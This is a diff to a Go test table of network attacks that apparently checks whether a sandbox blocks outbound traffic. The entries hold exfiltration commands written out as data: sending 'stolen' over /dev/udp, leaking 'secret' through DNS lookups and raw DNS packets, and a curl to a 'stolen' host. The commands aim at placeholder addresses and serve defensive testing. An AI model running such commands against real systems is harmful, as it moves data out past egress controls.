@@ -40,8 +40,8 @@ var networkAttacks = []attack{
 		want: []string{`status 403`, `policy_denied`}, never: `public page`, record: denial{exe: "/usr/bin/curl", host: "e.example.net", port: 443, code: "policy_denied"}, after: nothingCame("/nt01", "tcp e.example.net:22"),
 	},
 	{
-		id: "NT02", name: "datagrams out", script: `$T/attack udp 203.0.113.1:443 93.184.216.99:9999 93.184.216.34:443 '[2001:db8::1]:9999' 8.8.8.8:9999; bash -c 'echo stolen >/dev/udp/93.184.216.99/9999'`,
-		want: []string{`connected to 93.184.216.99:9999: ECONNREFUSED`}, after: nothingCame("udp "),
+		id: "NT02", name: "datagrams out", script: `$T/attack udp 203.0.113.1:443 93.184.216.99:9999 93.184.216.34:443 '[2001:db8::1]:9999' 8.8.8.8:9999; bash -c 'for i in 1 2 3; do echo stolen >/dev/udp/203.0.113.7/9999; done'`,
+		want: []string{`connected to 93.184.216.99:9999: ECONNREFUSED`}, record: denial{exe: "/usr/bin/bash", host: "203.0.113.7", port: 9999, code: "unsupported_protocol"}, after: nothingCame("udp "),
 	},
 	{
 		id: "NT03", name: "carry out by names", script: `for n in 1 2 3; do getent hosts secret$n.$(id -u).e.example.net; done; bash -c 'for to in 8.8.8.8 93.184.216.99; do exec 3<>/dev/udp/$to/53; printf "\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x06secret\x07example\x03net\0\0\x01\0\x01" >&3; timeout 2 head -c 30 <&3 | wc -c; done'; curl -sS https://stolen.e.example.net/`,
